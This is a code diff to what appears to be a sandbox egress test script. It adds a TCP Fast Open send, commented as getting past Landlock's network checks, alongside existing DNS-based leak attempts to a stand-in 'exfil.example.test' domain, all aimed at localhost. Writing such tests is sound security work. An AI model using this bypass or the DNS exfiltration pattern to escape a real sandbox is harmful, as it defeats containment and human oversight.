@@ -161,6 +161,10 @@ def dns_query(name):
         q += bytes([len(label)]) + label.encode()
     return q + b"\x00" + struct.pack(">HH", 1, 1)
 attempt("tcp4", lambda: tcp(socket.AF_INET, ("127.0.0.1", t["tcp4"])))
+def fastopen(addr):
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); s.settimeout(3); s.sendto(payload, 0x20000000, addr); s.close()
+# TCP Fast Open: the data goes with the SYN, and the kernel does not ask Landlock about that connection.
+attempt("fastopen", lambda: fastopen(("127.0.0.1", t["tcp4"])))
 attempt("udp4", lambda: udp(socket.AF_INET, ("127.0.0.1", t["udp4"]), payload))
 attempt("dns", lambda: udp(socket.AF_INET, ("127.0.0.1", t["dns"]), dns_query("leak-" + who + ".exfil.example.test")))
 if t.get("tcp6"):
